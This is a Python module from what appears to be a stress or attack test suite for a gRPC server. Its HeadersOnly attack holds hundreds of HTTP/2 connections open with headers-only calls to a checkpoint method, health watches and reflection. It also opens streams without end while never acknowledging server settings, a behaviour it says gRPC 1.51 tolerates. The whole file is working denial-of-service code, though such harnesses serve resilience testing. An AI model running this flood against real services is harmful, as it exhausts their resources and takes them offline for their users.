"""Calls of which only the headers come, and those that gRPC answers by itself."""

import itertools
import time

from . import wire
from .attack import Attack

_CONNECTIONS, _STREAMS = 400, 100
_CONNECTIONS_PER_SECOND = 150
_ENDLESS_CALLS_PER_SECOND = 10_000  # more would measure who has the processor
_METHODS = (
    (wire.SERVICE + "CreateCheckpoint", None),
    ("/grpc.health.v1.Health/Watch", b""),
    ("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", None),
)


class HeadersOnly(Attack):
    name = "headers-only"
    about = f"{_CONNECTIONS} connections of {_STREAMS} calls of which only the headers come; the same with health watches, and reflection; calls without end on one that never reads"

    @staticmethod
    def attack(address: str, seconds: float) -> list[str]:
        port = int(address.rpartition(":")[2])
        part = seconds / (len(_METHODS) + 1)
        for method, body in _METHODS:
            wire.open_and_hold(port, _CONNECTIONS, _CONNECTIONS_PER_SECOND, wire.greeting() + _calls(method, body, 0), part)
        end = time.monotonic() + part
        while time.monotonic() < end:
            _open_without_end(port, end)
        return []


def _calls(method: str, body: bytes | None, first: int) -> bytes:
    headers = wire.call_headers(method)
    return b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * i + 1, headers)
                    + (b"" if body is None else wire.frame(wire.DATA, wire.END_STREAM, 2 * i + 1, wire.message(body)))
                    for i in range(first, first + _STREAMS))


def _open_without_end(port: int, end: float) -> None:
    """Until then, or until the server hangs up. Its settings are never acknowledged: gRPC 1.51 lets such a client open any number."""
    method, body = _METHODS[0]
    try:
        with wire.open_socket(port) as connection:
            connection.sendall(wire.greeting())
            for first in itertools.count(0, _STREAMS):
                if time.monotonic() >= end:
                    return
                connection.sendall(_calls(method, body, first))
                time.sleep(_STREAMS / _ENDLESS_CALLS_PER_SECOND)
    except OSError:
        time.sleep(0.01)
